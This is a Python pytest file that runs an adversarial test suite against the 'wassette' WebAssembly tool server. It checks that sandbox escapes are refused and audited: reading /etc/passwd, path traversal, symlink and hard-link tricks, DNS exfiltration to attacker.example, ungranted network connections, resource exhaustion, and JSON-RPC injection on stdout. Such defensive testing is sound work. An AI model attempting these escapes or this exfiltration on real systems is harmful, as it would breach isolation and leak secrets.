"""The adversarial suite: probe components try one escape each, through the
real server (`wassette run`, official MCP client over stdio), with policies
attached the way a user attaches them.

Each attack must be refused or stopped; the tool result must say so (with the
grant command where a grant could allow it); the audit log must record it;
and the server must answer the next call. The table printed at the end (run
with `-s`) is the one in the issue note.
"""

from __future__ import annotations

import http.server
import json
import os
import socketserver
import sys
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import mcp.types as types
import pytest
from mcp import ClientSession, StdioServerParameters, stdio_client

pytestmark = pytest.mark.anyio

PROBES = ("fsprobe", "netprobe", "http-probe", "io", "spin", "grow")
FLOOD = 8 * 1024 * 1024


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@dataclass
class Attack:
    name: str
    probe: str  # component (language)
    tool: str
    args: dict[str, Any]
    # "denied": an access refused (and audited: `audit_resource`, or "any");
    # "stopped": a limit ended the call (the limit: `audit_resource`, the
    # audited status); "invisible": the thing asked for is not there;
    # "contained": the call returns, its output kept off the stream.
    expect: str
    audit_resource: str | None = None


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path.resolve() / "tree"
    for d in ("ro", "rw/secrets", "outside"):
        (root / d).mkdir(parents=True)
    (root / "ro/readme.txt").write_text("read me")
    (root / "rw/secrets/key.txt").write_text("KEY")
    (root / "outside/secret.txt").write_text("OUTSIDE")
    (root / "ro/escape").symlink_to(root / "outside/secret.txt")
    os.link(root / "rw/secrets/key.txt", root / "rw/innocent.txt")
    return root


@pytest.fixture
def servers() -> Iterator[dict[str, int]]:
    class Web(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"web")

        def log_message(self, *args: Any) -> None:
            pass

    class Echo(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.sendall(b"echo:" + self.request.recv(100))

    web = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Web)
    echo = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Echo)
    for s in (web, echo):
        threading.Thread(target=s.serve_forever, daemon=True).start()
    yield {"web": web.server_address[1], "echo": echo.server_address[1]}
    for s in (web, echo):
        s.shutdown()
        s.server_close()


def policies(tree: Path, ports: dict[str, int]) -> dict[str, str]:
    return {
        "fsprobe": f"""
version: "1.0"
permissions:
  storage:
    allow:
      - {{uri: "fs://{tree}/ro", access: [read]}}
      - {{uri: "fs://{tree}/rw", access: [read, write]}}
    deny:
      - {{uri: "fs://{tree}/rw/secrets/**"}}
""",
        "netprobe": f"""
version: "1.0"
permissions:
  network:
    allow:
      - {{host: "127.0.0.1:{ports["web"]}"}}
      - {{host: "localhost:{ports["echo"]}"}}
""",
        "http-probe": f"""
version: "1.0"
permissions:
  network:
    allow: [{{host: "127.0.0.1:{ports["web"]}"}}]
""",
        "io": """
version: "1.0"
permissions:
  environment:
    allow: [{key: GRANTED_VAR}]
""",
        "spin": """
version: "1.0"
permissions:
  resources: {limits: {cpu: 100m, timeout: 3s}}
""",
        "grow": """
version: "1.0"
permissions:
  resources: {limits: {memory: 2Mi}}
""",
        "spin-wall": """
version: "1.0"
permissions:
  resources: {limits: {timeout: 1s}}
""",
    }


def attacks(tree: Path, ports: dict[str, int]) -> list[Attack]:
    web, echo = ports["web"], ports["echo"]
    return [
        Attack(
            "read /etc/passwd", "fsprobe (C)", "read-file", {"path": "/etc/passwd"}, "denied", "/etc/passwd"
        ),
        Attack(
            "`..` out of a grant",
            "fsprobe (C)",
            "read-file",
            {"path": f"{tree}/ro/../outside/secret.txt"},
            "denied",
            f"{tree}/outside/secret.txt",
        ),
        Attack(
            "follow a planted symlink out",
            "fsprobe (C)",
            "read-file",
            {"path": f"{tree}/ro/escape"},
            "denied",
            f"{tree}/ro/escape",
        ),
        Attack(
            "write through a read-only grant",
            "fsprobe (C)",
            "write-file",
            {"path": f"{tree}/ro/readme.txt", "contents": "pwned"},
            "denied",
            f"{tree}/ro/readme.txt",
        ),
        Attack(
            "open a denied file inside an allowed directory",
            "fsprobe (C)",
            "read-file",
            {"path": f"{tree}/rw/secrets/key.txt"},
            "denied",
            f"{tree}/rw/secrets/key.txt",
        ),
        Attack(
            "rename a denied file out",
            "fsprobe (C)",
            "rename",
            {"source": f"{tree}/rw/secrets/key.txt", "destination": f"{tree}/rw/stolen.txt"},
            "denied",
            f"{tree}/rw/secrets/key.txt",
        ),
        Attack(
            "read a denied file through a planted hard link",
            "fsprobe (C)",
            "read-file",
            {"path": f"{tree}/rw/innocent.txt"},
            "denied",
            f"{tree}/rw/innocent.txt",
        ),
        Attack(
            "denied file by a case trick",
            "fsprobe (C)",
            "read-file",
            {"path": f"{tree}/rw/SECRETS/key.txt"},
            "denied",
            None,  # the path does not exist on this (case-sensitive) host: refused, nothing to record
        ),
        Attack(
            "fetch an un-granted host",
            "http-probe (JS)",
            "fetch-url",
            {"url": f"http://127.0.0.2:{web}/", "method": "GET"},
            "denied",
            f"http://127.0.0.2:{web}/",
        ),
        Attack(
            "fetch a granted host on another port",
            "http-probe (JS)",
            "fetch-url",
            {"url": f"http://127.0.0.1:{echo}/", "method": "GET"},
            "denied",
            f"http://127.0.0.1:{echo}/",
        ),
        Attack(
            "raw TCP to a granted host's other port",
            "netprobe (Python)",
            "tcp-exchange",
            {"host": "127.0.0.1", "port": echo, "payload": "x"},
            "denied",
            f"127.0.0.1:{echo}",
        ),
        Attack(
            "resolve a granted name to loopback and connect",
            "netprobe (Python)",
            "tcp-exchange",
            {"host": "localhost", "port": echo, "payload": "x"},
            "denied",
            f"127.0.0.1:{echo}",
        ),
        Attack(
            "DNS lookup of an un-granted name (exfiltration)",
            "netprobe (Python)",
            "resolve",
            {"host": "c2VjcmV0.attacker.example"},
            "denied",
            "c2vjcmv0.attacker.example",  # names are recorded lower-cased
        ),
        Attack(
            "UDP datagram to a granted host",
            "netprobe (Python)",
            "udp-exchange",
            {"host": "127.0.0.1", "port": web, "payload": "x"},
            "denied",
            f"127.0.0.1:{web}",
        ),
        Attack("listen for connections", "netprobe (Python)", "tcp-listen", {"port": 0}, "denied", "any"),
        Attack(
            "read an un-granted environment variable",
            "io (C)",
            "get-env",
            {"key": "NOT_GRANTED_VAR"},
            "invisible",
        ),
        Attack(
            "read the server's own environment (HOME)",
            "io (C)",
            "get-env",
            {"key": "HOME"},
            "invisible",
        ),
        Attack("spin forever (CPU budget)", "spin (WAT)", "spin", {}, "stopped", "cpu_limit"),
        Attack("spin forever (wall clock)", "spin-wall (WAT)", "spin", {}, "stopped", "timeout"),
        Attack("allocate past the memory limit", "grow (WAT)", "grow-loop", {}, "stopped", "out_of_memory"),
        Attack("print 8 MiB to stdout", "io (C)", "flood", {"bytes": FLOOD}, "contained"),
        Attack(
            "write JSON-RPC to stdout",
            "io (C)",
            "print-stdout",
            {
                "text": '{"jsonrpc":"2.0","method":"notifications/tools/list_changed"}\n'
                '{"jsonrpc":"2.0","id":1,"result":{}}\n'
            },
            "contained",
        ),
    ]


@asynccontextmanager
async def server(env: dict[str, str], on_message: Any) -> AsyncIterator[ClientSession]:
    params = StdioServerParameters(command=sys.executable, args=["-m", "wassette", "run"], env=env)
    async with (
        stdio_client(params) as (read, write),
        ClientSession(read, write, message_handler=on_message) as s,
    ):
        await s.initialize()
        yield s


def text(r: types.CallToolResult) -> str:
    return "\n".join(c.text for c in r.content if isinstance(c, types.TextContent))


async def test_every_attack_is_stopped(
    cli: Callable[..., Any],
    env: dict[str, str],
    home: Path,
    components: dict[str, Path],
    tree: Path,
    servers: dict[str, int],
    tmp_path: Path,
) -> None:
    for probe in PROBES:
        assert cli("component", "load", components[probe].as_uri()).returncode == 0
    (tmp_path / "spin-wall.wasm").write_bytes(components["spin"].read_bytes())
    assert cli("component", "load", (tmp_path / "spin-wall.wasm").as_uri()).returncode == 0
    for probe, doc in policies(tree, servers).items():
        f = tmp_path / f"{probe}.yaml"
        f.write_text(doc)
        r = cli("policy", "attach", probe, str(f))
        assert r.returncode == 0, r.stderr
    before = {p: p.read_bytes() for p in tree.rglob("*") if p.is_file() and not p.is_symlink()}
    env = {**env, "GRANTED_VAR": "visible", "NOT_GRANTED_VAR": "hidden"}
    audit_path = home / "data/wassette/audit.jsonl"
    rows: list[tuple[str, str, str]] = []
    failures: list[str] = []
    stray: list[Any] = []

    async def on_message(message: Any) -> None:
        stray.append(message)

    async with server(env, on_message) as s:
        names = {t.name for t in (await s.list_tools()).tools}

        def tool(component: str, export: str) -> str:
            # Exports two components share are offered as `<id>__<export>`.
            return f"{component}__{export}" if f"{component}__{export}" in names else export

        for attack in attacks(tree, servers):
            audit_before = len(audit_path.read_text().splitlines()) if audit_path.exists() else 0
            stray.clear()
            r = await s.call_tool(tool(attack.probe.split()[0], attack.tool), attack.args)
            body = text(r)
            new_audit = [json.loads(line) for line in audit_path.read_text().splitlines()[audit_before:]]
            if attack.expect == "denied":
                recorded = attack.audit_resource is None or any(
                    e["event"] == "denied" and attack.audit_resource in ("any", e.get("resource"))
                    for e in new_audit
                )
                stopped = r.is_error and recorded
                outcome = "refused" + (", audited" if attack.audit_resource else "")
            elif attack.expect == "stopped":
                stopped = r.is_error and any(
                    e["event"] == "stopped" and e.get("status") == attack.audit_resource for e in new_audit
                )
                outcome = "stopped, audited"
            elif attack.expect == "contained":
                stopped = not r.is_error
                outcome = "contained (kept off the protocol stream)"
            else:
                stopped = not r.is_error and r.structured_content == {"result": None}
                outcome = "not visible"
            # After every attack the server still answers.
            healthy = await s.call_tool("get-env", {"key": "GRANTED_VAR"})
            if attack.expect == "contained":
                # Nothing the guest printed arrived as a message of its own.
                stopped = stopped and not stray
            if not (stopped and healthy.structured_content == {"result": "visible"}):
                failures.append(f"{attack.name}: is_error={r.is_error} audit={new_audit} text={body!r}")
            rows.append((attack.name, attack.probe, outcome if stopped else "NOT STOPPED"))
        # Where a grant could allow the access, the error names the command.
        r = await s.call_tool(tool("fsprobe", "read-file"), {"path": "/etc/passwd"})
        assert (
            "to allow it, run: wassette permission grant storage fsprobe fs:///etc/passwd --access read"
            in text(r)
        )
        r = await s.call_tool(tool("fsprobe", "read-file"), {"path": f"{tree}/rw/secrets/key.txt"})
        assert "decided by permissions.storage.deny[0]" in text(r) and "to allow it" not in text(r)
        r = await s.call_tool("flood", {"bytes": FLOOD})
        assert r.structured_content == {"result": FLOOD}
        assert f"{FLOOD - 1024 * 1024} stdout" in text(r)  # 1 MiB kept, the rest counted and dropped
    after = {p: p.read_bytes() for p in tree.rglob("*") if p.is_file() and not p.is_symlink()}
    assert after == before, "an attack changed a file on the host"
    print("\n| # | attack | probe | result |\n|---|---|---|---|")
    for i, (name, probe, outcome) in enumerate(rows, 1):
        print(f"| {i} | {name} | {probe} | {outcome} |")
    print(f"attacks tried: {len(rows)}, stopped: {sum(o != 'NOT STOPPED' for _, _, o in rows)}")
    assert not failures, "\n".join(failures)
